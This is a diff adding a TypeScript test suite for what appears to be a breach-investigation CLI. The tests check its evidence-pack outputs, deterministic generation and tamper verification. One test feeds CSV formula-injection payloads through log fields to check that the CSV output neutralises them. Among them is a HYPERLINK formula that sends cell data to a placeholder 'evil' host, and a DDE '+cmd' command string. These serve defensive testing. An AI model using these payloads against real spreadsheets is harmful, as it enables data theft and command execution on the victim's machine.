@@ -1,0 +1,132 @@
+import assert from 'node:assert/strict';
+import { cpSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { describe, test } from 'node:test';
+import { gunzipSync } from 'node:zlib';
+import { tableFromIPC } from 'apache-arrow';
+import { Store } from '../../src/db/store.js';
+import { ROOT, combinedLine, makeCase, runCli, tempDir } from '../helpers.js';
+
+function copySample(name: string): string {
+  const dir = path.join(tempDir(), name);
+  cpSync(path.join(ROOT, 'sample-logs', name), dir, { recursive: true, filter: (src) => !src.includes('.breachscope') });
+  return path.join(dir, 'case.yaml');
+}
+
+function report(casePath: string, out: string, extra: string[] = []): { summary: number } {
+  const r = runCli(['report', casePath, '--out', out, '--generated-at', '2015-04-20T12:00:00Z', ...extra]);
+  assert.equal(r.code, 0, r.stderr);
+  return { summary: Number(/^(\d+) unauthorized/.exec(r.stdout)![1]) };
+}
+
+async function readCsv(file: string): Promise<Record<string, string | null>[]> {
+  const store = await Store.memory();
+  try {
+    return (await store.all(`SELECT * FROM read_csv($f, header = true, all_varchar = true, quote = '"', escape = '"', delim = ',')`, { f: file })) as Record<string, string | null>[];
+  } finally {
+    store.close();
+  }
+}
+
+/** Line n (1-based) of a log file, as bytes on disk (gzip undone), without its line end. */
+function lineOf(file: string, n: number): string {
+  let bytes = readFileSync(file);
+  if (bytes[0] === 0x1f && bytes[1] === 0x8b) bytes = gunzipSync(bytes);
+  return bytes.toString('utf8').split('\n')[n - 1]!.replace(/\r$/, '');
+}
+
+for (const sample of ['ticketviewer', 'resident-portal']) {
+  describe(`evidence pack of ${sample}`, () => {
+    test('when the pack is written then evidence.csv has one row per counted access and each raw line is line N of its file, byte for byte', async () => {
+      const c = copySample(sample);
+      const out = tempDir();
+      const { summary } = report(c, out);
+      const expected = JSON.parse(readFileSync(path.join(path.dirname(c), 'expected.json'), 'utf8')) as { unauthorized_accesses: number; affected_subjects: number };
+      assert.equal(summary, expected.unauthorized_accesses);
+      const rows = await readCsv(path.join(out, 'evidence.csv'));
+      assert.equal(rows.length, expected.unauthorized_accesses);
+      for (const r of rows) assert.equal(r.raw_line, lineOf(path.join(path.dirname(c), r.file!), Number(r.line)), `${r.file}:${r.line}`);
+      assert.equal((await readCsv(path.join(out, 'subjects.csv'))).length, expected.affected_subjects);
+      const arrow = tableFromIPC(readFileSync(path.join(out, 'evidence.arrow')));
+      assert.equal(arrow.numRows, expected.unauthorized_accesses);
+      assert.deepEqual(arrow.schema.fields.map((f) => f.name).slice(0, 4), ['event_time', 'client_ip', 'account', 'document']);
+    });
+  });
+}
+
+describe('pack integrity', () => {
+  test('when the same inputs are reported twice with the same generated-at then every file is byte-identical', () => {
+    const c = copySample('ticketviewer');
+    const a = tempDir();
+    const b = tempDir();
+    report(c, a);
+    report(c, b, ['--db', tempDir()]);
+    const files = readdirSync(a).sort();
+    assert.deepEqual(files, ['evidence.arrow', 'evidence.csv', 'evidence.parquet', 'manifest.json', 'subjects.csv']);
+    for (const f of files) assert.ok(readFileSync(path.join(a, f)).equals(readFileSync(path.join(b, f))), `${f} differs`);
+  });
+
+  test('when SOURCE_DATE_EPOCH is set then it is the generated-at', () => {
+    const out = tempDir();
+    const r = runCli(['report', copySample('ticketviewer'), '--out', out], { env: { SOURCE_DATE_EPOCH: '1429531200' } });
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(JSON.parse(readFileSync(path.join(out, 'manifest.json'), 'utf8')).generated_at, '2015-04-20T12:00:00Z');
+  });
+
+  test('when one byte of any file of the pack changes then verify exits 1 naming that file; intact it exits 0', () => {
+    const c = copySample('ticketviewer');
+    const pack = tempDir();
+    report(c, pack);
+    assert.equal(runCli(['verify', pack]).code, 0);
+    for (const f of readdirSync(pack)) {
+      const copy = tempDir();
+      cpSync(pack, copy, { recursive: true });
+      const bytes = readFileSync(path.join(copy, f));
+      const at = Math.floor(bytes.length / 2);
+      bytes[at] = bytes[at]! ^ 0x01;
+      writeFileSync(path.join(copy, f), bytes);
+      const r = runCli(['verify', copy]);
+      assert.equal(r.code, 1, `a changed byte in ${f} is caught`);
+      assert.match(r.stdout, new RegExp(`^changed +${f.replace('.', '\\.')}$`, 'm'));
+    }
+  });
+
+  test('when a file is missing or added then verify names it', () => {
+    const pack = tempDir();
+    report(copySample('ticketviewer'), pack);
+    writeFileSync(path.join(pack, 'notes.txt'), 'x');
+    const r1 = runCli(['verify', pack]);
+    assert.equal(r1.code, 1);
+    assert.match(r1.stdout, /^extra +notes\.txt$/m);
+    const pack2 = tempDir();
+    report(copySample('ticketviewer'), pack2);
+    rmSync(path.join(pack2, 'subjects.csv'));
+    const r2 = runCli(['verify', pack2]);
+    assert.equal(r2.code, 1);
+    assert.match(r2.stdout, /^missing +subjects\.csv$/m);
+  });
+});
+
+describe('attacker-controlled strings in CSV', () => {
+  test('when log fields start with = + - @ tab or CR then the CSV cells are neutralised and Parquet keeps them as logged', async () => {
+    const hostile = ['=HYPERLINK("http://evil/?"&A1)', '+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)', '\tx'];
+    const lines = hostile.map((ua, i) => combinedLine({ user: i === 0 ? '=evil' : 'M2', time: `16/Mar/2015:10:0${i}:00 +0000`, path: `/tickets/D1/image`, ua: ua.replaceAll('"', '\\"') }));
+    const c = makeCase(
+      'case: hostile\nsources:\n  - {name: web, path: access.log, format: combined}\ndocuments:\n  routes: [/tickets/{doc}/image]\n  owners: owners.csv\n',
+      { 'access.log': `${lines.join('\n')}\n`, 'owners.csv': 'document_id,owner_account\nD1,M1\n' },
+    );
+    const out = tempDir();
+    report(c, out);
+    const rows = await readCsv(path.join(out, 'evidence.csv'));
+    assert.equal(rows.length, 5);
+    assert.deepEqual(rows.map((r) => r.user_agent), hostile.map((h) => `'${h}`));
+    assert.equal(rows[0]!.account, "'=evil");
+    const store = await Store.memory();
+    try {
+      const raw = await store.all(`SELECT user_agent, account FROM read_parquet($f) ORDER BY event_time`, { f: path.join(out, 'evidence.parquet') });
+      assert.deepEqual(raw.map((r) => r.user_agent), hostile);
+    } finally {
+      store.close();
+    }
+  });
+});
